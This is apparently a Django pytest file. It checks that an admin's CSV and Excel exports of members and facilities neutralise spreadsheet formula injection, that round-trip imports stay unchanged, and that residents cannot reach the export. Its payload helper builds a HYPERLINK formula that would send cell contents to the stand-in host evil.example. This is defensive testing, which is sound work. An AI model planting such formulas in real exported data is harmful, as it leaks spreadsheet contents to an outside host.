"""The admin's CSV and Excel exports of members and facilities write a value that a spreadsheet
would run as a formula with a single quote in front (nothing removed), as a text cell in Excel,
and importing the exported file again changes nothing: no quote is added on each round."""

import csv
import io
import re

import openpyxl
import pytest
from django.test import Client

from networks.models import Facility, Member
from tests.factories import FacilityFactory, MemberFactory
from tests.html import visible_text

PREFIXES = ["=", "==", "+", "-", "@", "\t", "\r"]
CSV, XLSX = "0", "1"  # the formats the admin offers, in order
RUNNABLE_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def payload(prefix: str) -> str:
    return prefix + 'HYPERLINK("http://evil.example/?"&A1,"詳しくはこちら")'


def export(client: Client, url: str, fmt: str) -> bytes:
    """Through the admin's export page, every column ticked, as a person would."""
    form = client.get(url).context["form"]
    columns = tuple(f"_{column}" for column in form.resources[0]().get_export_order())
    data = {"format": fmt, "resource": "0"}
    data.update({name: "on" for name in form.fields if name.endswith(columns)})
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content) if response.streaming else response.content


def cells(content: bytes, fmt: str) -> list[dict[str, object]]:
    """The rows as {column name: value}; Excel cells must all be text or numbers, no formula."""
    if fmt == CSV:
        text = content.decode("utf-8-sig")
        return list(csv.DictReader(io.StringIO(text, newline="")))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str):
                assert cell.data_type == "s", cell.value
    return [dict(zip(header, [cell.value for cell in row], strict=True)) for row in rows[1:]]


def assert_no_cell_runs(rows: list[dict[str, object]]) -> None:
    """No text cell starts like a formula, unless it is a plain number such as -3.50."""
    for row in rows:
        for column, value in row.items():
            if isinstance(value, str) and not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", value):
                assert not value.startswith(RUNNABLE_STARTS), (column, value)


def reimport(client: Client, url: str, content: bytes, fmt: str) -> str:
    """Upload, preview and confirm; the messages shown afterwards."""
    upload = io.BytesIO(content)
    upload.name = "export.csv" if fmt == CSV else "export.xlsx"
    preview = client.post(
        f"{url}import/", {"format": fmt, "import_file": upload, "resource": "0"}, follow=True
    )
    assert preview.context.get("confirm_form") is not None, visible_text(preview)
    form = preview.context["confirm_form"]
    done = client.post(f"{url}process_import/", dict(form.initial), follow=True)
    return visible_text(done)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", [CSV, XLSX])
@pytest.mark.parametrize("prefix", PREFIXES)
def test_member_export_quotes_every_runnable_cell(
    coordinator_client: Client, prefix: str, fmt: str
) -> None:
    value = payload(prefix)
    MemberFactory(name=value, description=value, website=value, phone=prefix + "1+1")

    rows = cells(export(coordinator_client, "/admin/networks/member/export/", fmt), fmt)

    assert len(rows) == 1
    for column in ("名称", "紹介", "ウェブサイト"):
        assert rows[0][column] == as_excel_keeps_it("'" + value, fmt), column
    assert rows[0]["電話番号"] == as_excel_keeps_it("'" + prefix + "1+1", fmt)
    assert_no_cell_runs(rows)


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", [CSV, XLSX])
@pytest.mark.parametrize("prefix", PREFIXES)
def test_facility_export_quotes_every_runnable_cell(
    coordinator_client: Client, prefix: str, fmt: str
) -> None:
    value = payload(prefix)
    FacilityFactory(
        member=MemberFactory(name=value), name=value, address=value, accessibility_notes=value
    )

    rows = cells(export(coordinator_client, "/admin/networks/facility/export/", fmt), fmt)

    assert len(rows) == 1
    for column in ("運営法人", "名称", "所在地", "バリアフリー情報"):
        assert rows[0][column] == as_excel_keeps_it("'" + value, fmt), column
    assert_no_cell_runs(rows)


def directory() -> list[tuple]:
    members = Member.objects.order_by("pk").values_list("pk", "name", "name_kana", "description")
    facilities = Facility.objects.order_by("pk").values_list(
        "pk", "member_id", "name", "address", "opening_notes", "accessibility_notes"
    )
    return [*members, *facilities]


def as_excel_keeps_it(value: str, fmt: str) -> str:
    """An Excel file is XML, whose readers turn a carriage return into a line feed."""
    return value.replace("\r", "\n") if fmt == XLSX else value


# An Excel file is XML, and XML readers turn a carriage return into a line feed (openpyxl writes
# no _x000D_), so a record whose text starts with one no longer matches after an Excel round
# trip. That was so before, and has nothing to do with the quote; kept here as a known limit.
CR_IN_EXCEL = pytest.mark.xfail(reason="XML turns CR into LF", strict=True)
ROUND_TRIPS = [
    pytest.param(prefix, fmt, marks=[CR_IN_EXCEL] if (prefix, fmt) == ("\r", XLSX) else [])
    for prefix in PREFIXES
    for fmt in (CSV, XLSX)
]


@pytest.mark.django_db
@pytest.mark.parametrize(("prefix", "fmt"), ROUND_TRIPS)
def test_an_exported_directory_imports_again_unchanged(
    coordinator_client: Client, prefix: str, fmt: str
) -> None:
    value = payload(prefix)
    member = MemberFactory(name=value, description=value)
    if prefix.isspace():  # the import finds the running member by its name, spaces trimmed
        member = MemberFactory(name="ひかり福祉会")
    FacilityFactory(member=member, name=value, address=value, opening_notes=value)
    before = directory()

    for model in ("member", "facility"):
        url = f"/admin/networks/{model}/"
        for _round in range(2):  # the second round reads what the first round imported
            exported = export(coordinator_client, f"{url}export/", fmt)
            messages = reimport(coordinator_client, url, exported, fmt)
        assert "追加0件、更新0件、変更なし" in messages  # no quote added on the way

    assert directory() == before


@pytest.mark.django_db
def test_numbers_and_ordinary_text_are_exported_as_they_are(coordinator_client: Client) -> None:
    MemberFactory(name="ひかり福祉会", phone="03-1234-5678", description="a=b、-は引き算")

    rows = cells(export(coordinator_client, "/admin/networks/member/export/", CSV), CSV)

    assert rows[0]["名称"] == "ひかり福祉会"
    assert rows[0]["電話番号"] == "03-1234-5678"
    assert rows[0]["紹介"] == "a=b、-は引き算"


@pytest.mark.django_db
def test_residents_cannot_reach_the_export(resident_client: Client) -> None:
    response = resident_client.get("/admin/networks/member/export/")

    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]
